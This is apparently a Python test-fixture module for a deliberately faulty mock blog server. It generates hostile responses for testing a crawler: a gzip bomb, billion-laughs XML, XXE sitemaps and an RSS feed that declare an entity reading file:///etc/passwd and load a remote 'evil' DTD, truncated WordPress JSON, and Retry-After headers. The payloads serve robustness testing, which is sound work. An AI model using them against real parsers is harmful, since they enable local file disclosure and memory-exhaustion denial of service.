"""The hostile bodies and headers the faulty blog serves: gzip bomb, billion laughs, XXE, broken JSON, Retry-After."""
from __future__ import annotations

import gzip
import io
from email.utils import formatdate
from typing import Optional

BOMB_BYTES = 128 * 1024 * 1024

_bomb: Optional[bytes] = None


def gzip_bomb() -> bytes:
    """About 130 KB of gzip that expands to 128 MB of spaces (built once)."""
    global _bomb
    if _bomb is None:
        buf = io.BytesIO()
        chunk = b" " * (1024 * 1024)
        with gzip.GzipFile(fileobj=buf, mode="wb", compresslevel=9) as fh:
            for _ in range(BOMB_BYTES // len(chunk)):
                fh.write(chunk)
        _bomb = buf.getvalue()
    return _bomb


def billion_laughs(base: str) -> bytes:
    ents = ['<!ENTITY lol "lol">'] + [f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'
                                      for i in range(1, 10)]
    return (f'<?xml version="1.0"?>\n<!DOCTYPE urlset [{"".join(ents)}]>\n'
            f'<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">'
            f'<url><loc>{base}/laughs/&lol9;</loc></url></urlset>').encode()


def xxe_sitemap(base: str) -> bytes:
    return (f'<?xml version="1.0"?>\n<!DOCTYPE urlset [<!ENTITY xxe SYSTEM "file:///etc/passwd">'
            f'<!ENTITY % remote SYSTEM "{base}/evil.dtd"> %remote;]>\n'
            f'<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">'
            f'<url><loc>{base}/leak/&xxe;</loc></url></urlset>').encode()


def hostile_feed(base: str) -> bytes:
    """An RSS feed declaring both a billion-laughs entity and external entities (a file and a remote DTD)."""
    ents = ['<!ENTITY lol "lol">'] + [f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'
                                      for i in range(1, 10)]
    return (f'<?xml version="1.0"?>\n<!DOCTYPE rss [{"".join(ents)}<!ENTITY xxe SYSTEM "file:///etc/passwd">'
            f'<!ENTITY % remote SYSTEM "{base}/evil-feed.dtd"> %remote;]>\n'
            f'<rss version="2.0"><channel><title>&xxe;</title><link>{base}/</link>'
            f'<item><title>Leak &xxe;</title><link>{base}/leak-feed/&xxe;</link></item>'
            f'<item><title>Laughs &lol9;</title><link>{base}/laughs-feed/&lol9;</link></item></channel></rss>').encode()


def malformed_json() -> bytes:
    """What a broken /wp-json/ answers with 200 and a JSON type: a body cut off mid-object, PHP notice first."""
    return (b'<br />\n<b>Notice</b>: Undefined index in wp-includes/rest-api.php<br />\n'
            b'{"name":"Faulty blog","namespaces":["wp/v2"],"routes":{"/wp/v2/posts":{"methods":["GET"')


def retry_after(spec: str, now: float) -> dict:
    """The Retry-After header of a fault: '' none, 'N' seconds, 'date+N' an HTTP-date N s after ``now``."""
    if not spec:
        return {}
    if spec.startswith("date+"):
        return {"Retry-After": formatdate(int(now) + int(spec[5:]), usegmt=True)}
    return {"Retry-After": spec}
